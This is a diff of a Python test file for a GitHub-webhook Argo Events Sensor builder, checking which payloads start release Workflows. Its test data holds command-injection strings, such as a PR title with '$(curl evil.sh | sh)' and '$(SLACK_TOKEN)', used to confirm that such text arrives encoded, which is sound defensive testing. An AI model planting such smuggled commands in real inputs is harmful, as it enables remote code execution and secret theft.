@@ -1,9 +1,8 @@
 """Tests of components/sensors.py: the Sensor builder, the component under mocks, whole stacks.
 
-The builder is checked for its shape (names, pod, filters, trigger) without ../shared.
-With ../shared (skipped with a reason when absent) the built Sensor of every service in
-every stack, and after wiring the rendered one, receives the real GitHub payloads of
-../shared/fixtures/github-webhooks through sensor_sim (Argo Events' own filter and
+The builder is checked for its shape (names, pod, filters, trigger). The built Sensor of
+every service in every stack, and after wiring the rendered one, receives the real GitHub
+payloads of upstream/github-webhooks through tests.checks.sensor_sim (Argo Events' own filter and
 parameter semantics): exactly the merged PR into the environment's branch of the
 service's repository creates one Workflow, with the contract's name, namespace,
 template and arguments; nothing else does. The created Workflow is linted with
@@ -26,11 +25,11 @@ import pytest
 
 from components import events, intake, names, sensors
 from components.config import STACKS, Service, Settings, load_services, load_stack_settings
-from tests.conftest import SHARED, requires_shared
+from tests.conftest import SERVICES_FILE, UPSTREAM
 from tests.harness import run_under_mocks
 
 PROJECT_DIR = Path(__file__).resolve().parent.parent
-FIXTURES = SHARED / "fixtures" / "github-webhooks"
+FIXTURES = UPSTREAM / "github-webhooks"
 SENSOR_TYPE = "kubernetes:argoproj.io/v1alpha1:Sensor"
 
 Manifest = dict[str, Any]
@@ -41,7 +40,7 @@ def stack_settings(stack: str = "dev") -> Settings:
 
 
 def stack_services(stack: str) -> list[Service]:
-    return load_services(PROJECT_DIR / "services.yaml").for_environment(stack)
+    return load_services(SERVICES_FILE).for_environment(stack)
 
 
 def service(repo: str = "Appen/sid_verification_backend_api", name: str = "vbsiv", **extra: Any) -> Service:
@@ -243,7 +242,7 @@ def fixture(name: str) -> dict[str, Any]:
 
 def pull_request(name: str = "pull_request.closed-merged.json", *, base: str, repo: str,
                  **pr: Any) -> dict[str, Any]:
-    """A real PR payload, retargeted at `base` of `repo` (like `with_base()` in ../shared)."""
+    """A real PR payload, retargeted at `base` of `repo` (the payloads all merge into `master`)."""
     payload = fixture(name)
     payload["pull_request"]["base"]["ref"] = base
     payload["repository"]["full_name"] = repo
@@ -261,7 +260,7 @@ def push(*, branch: str, repo: str, **changes: Any) -> dict[str, Any]:
 
 def deliver(sensor: Manifest, svc: Service, payload: dict[str, Any], event: str) -> list[Manifest]:
     """Workflows the Sensor creates for one delivery to the service's repository event."""
-    from sensor_sim import fire, github_headers
+    from tests.checks.sensor_sim import fire, github_headers
 
     return fire(sensor, intake.EVENTSOURCE_NAME, intake.event_name(svc.repo), payload,  # type: ignore[no-any-return]
                 github_headers(event), strict=True)
@@ -301,7 +300,6 @@ def stack_cases() -> list[tuple[str, str]]:
     return [(stack, s.name) for stack in STACKS for s in stack_services(stack)]
 
 
-@requires_shared
 @pytest.mark.parametrize(("stack", "name"), stack_cases())
 def test_merged_pr_into_the_branch_starts_one_release(stack: str, name: str) -> None:
     settings = stack_settings(stack)
@@ -371,7 +369,6 @@ def _not_firing_cases() -> list[tuple[str, Callable[[str, str], tuple[dict[str, 
 NOT_FIRING = _not_firing_cases()
 
 
-@requires_shared
 @pytest.mark.parametrize("stack", STACKS)
 @pytest.mark.parametrize(("case", "make"), NOT_FIRING, ids=[c for c, _ in NOT_FIRING])
 def test_nothing_else_starts_a_release(stack: str, case: str, make: Callable[..., Any]) -> None:
@@ -381,7 +378,6 @@ def test_nothing_else_starts_a_release(stack: str, case: str, make: Callable[...
         assert deliver(sensors.sensor_manifest(svc, settings), svc, payload, event) == [], (case, svc.name)
 
 
-@requires_shared
 def test_repository_name_matches_in_any_case_but_literally() -> None:
     svc, settings = service(repo="Appen/my.repo"), stack_settings()
     sensor = sensors.sensor_manifest(svc, settings)
@@ -390,7 +386,6 @@ def test_repository_name_matches_in_any_case_but_literally() -> None:
     assert deliver(sensor, svc, pull_request(base="development", repo="Appen/myXrepo"), "pull_request") == []
 
 
-@requires_shared
 def test_branch_metacharacters_are_literal() -> None:
     svc, settings = service(), with_branch(stack_settings(), "release.1")
     sensor = sensors.sensor_manifest(svc, settings)
@@ -398,7 +393,6 @@ def test_branch_metacharacters_are_literal() -> None:
     assert deliver(sensor, svc, pull_request(base="releaseX1", repo=svc.repo), "pull_request") == []
 
 
-@requires_shared
 def test_a_merge_into_main_starts_only_the_live_release() -> None:
     svc = service()
     fired = {
@@ -409,7 +403,6 @@ def test_a_merge_into_main_starts_only_the_live_release() -> None:
     assert fired == {"dev": 0, "sandbox": 0, "integration": 0, "live": 1}
 
 
-@requires_shared
 def test_large_pr_numbers_arrive_as_plain_digits() -> None:
     svc, settings = service(), stack_settings()
     sensor = sensors.sensor_manifest(svc, settings)
@@ -423,7 +416,6 @@ HOSTILE_TITLE = ("$(SLACK_TOKEN) $(curl evil.sh | sh) `id` \"quoted\" 'single' {
 HOSTILE_LOGIN = "x$(id)`whoami`"
 
 
-@requires_shared
 def test_payload_text_arrives_encoded_in_its_argument_only() -> None:
     svc, settings = service(), stack_settings()
     sensor = sensors.sensor_manifest(svc, settings)
@@ -446,7 +438,6 @@ def test_payload_text_arrives_encoded_in_its_argument_only() -> None:
         assert fragment not in text
 
 
-@requires_shared
 @pytest.mark.parametrize("text", ["", "é ✓ 漢字", "{{ .Input.body.pull_request.title }}", "x" * 300])
 def test_encoded_text_survives_any_content(text: str) -> None:
     """Empty text still renders (upstream refuses an empty template result), Unicode is UTF-8."""
@@ -460,7 +451,6 @@ def test_encoded_text_survives_any_content(text: str) -> None:
     assert summary(workflow)["arguments"]["author"] == b64(text)
 
 
-@requires_shared
 @pytest.mark.parametrize("stack", STACKS)
 def test_push_starts_a_release_only_when_enabled(stack: str) -> None:
     settings = stack_settings(stack)
@@ -491,14 +481,12 @@ PUSH_NOT_FIRING: list[tuple[str, Callable[[], dict[str, Any]]]] = [
 ]
 
 
-@requires_shared
 @pytest.mark.parametrize(("case", "payload"), PUSH_NOT_FIRING, ids=[c for c, _ in PUSH_NOT_FIRING])
 def test_push_filters_are_exact(case: str, payload: Callable[[], dict[str, Any]]) -> None:
     svc = service(trigger_on_push=True)
     assert deliver(sensors.sensor_manifest(svc, stack_settings()), svc, payload(), "push") == [], case
 
 
-@requires_shared
 def test_tag_deletion_fixture_does_not_start_a_release() -> None:
     svc = service(trigger_on_push=True)
     payload = fixture("push.tag.json")
@@ -506,10 +494,9 @@ def test_tag_deletion_fixture_does_not_start_a_release() -> None:
     assert deliver(sensors.sensor_manifest(svc, stack_settings()), svc, payload, "push") == []
 
 
-@requires_shared
 def test_a_merge_seen_as_pr_and_as_push_names_one_workflow() -> None:
     """Both deliveries create the same name: the second create is AlreadyExists, one build."""
-    from sensor_sim import SensorSimulator, github_headers
+    from tests.checks.sensor_sim import SensorSimulator, github_headers
 
     svc = service(trigger_on_push=True)
     sensor = sensors.sensor_manifest(svc, stack_settings())
@@ -534,9 +521,8 @@ def _sensor_variants() -> list[tuple[str, Service]]:
     ]
 
 
-@requires_shared
 def test_lint_sensor_has_no_warnings() -> None:
-    from sensor_sim import lint_sensor, validate_sensor
+    from tests.checks.sensor_sim import lint_sensor, validate_sensor
 
     for stack, svc in _sensor_variants():
         sensor = sensors.sensor_manifest(svc, stack_settings(stack))
@@ -544,9 +530,8 @@ def test_lint_sensor_has_no_warnings() -> None:
         assert lint_sensor(sensor, "github") == [], (stack, svc.name)
 
 
-@requires_shared
 def test_sensors_validate_against_the_upstream_schema() -> None:
-    from validate_manifests import validate_objects
+    from tests.checks.validate_manifests import validate_objects
 
     built = [sensors.sensor_manifest(svc, stack_settings(stack)) for stack, svc in _sensor_variants()]
     assert [p for p in validate_objects(built) if p.severity != "skipped"] == []
@@ -566,10 +551,9 @@ def minimal_release_template(svc: Service, settings: Settings) -> Manifest:
     }
 
 
-@requires_shared
 @pytest.mark.parametrize("event", ["pull_request", "push"])
 def test_created_workflow_lints_against_the_contract_template(event: str) -> None:
-    from workflow_lint import lint
+    from tests.checks.workflow_lint import lint
 
     svc, settings = service(trigger_on_push=True), stack_settings()
     payload = (pull_request(base="development", repo=svc.repo) if event == "pull_request"
@@ -655,11 +639,10 @@ def test_stack_has_one_sensor_per_service_as_built(render_stack: Callable[..., A
         assert {"crds-argo-events-sensors", "platform-argo-events"} <= set(record["options"]["depends_on"])
 
 
-@requires_shared
 @pytest.mark.parametrize("stack", STACKS)
 def test_rendered_sensors_start_exactly_their_release(render_stack: Callable[..., Any], stack: str) -> None:
-    from validate_manifests import validate_objects
-    from workflow_lint import lint
+    from tests.checks.validate_manifests import validate_objects
+    from tests.checks.workflow_lint import lint
 
     settings = stack_settings(stack)
     _, manifests = render_stack(stack)
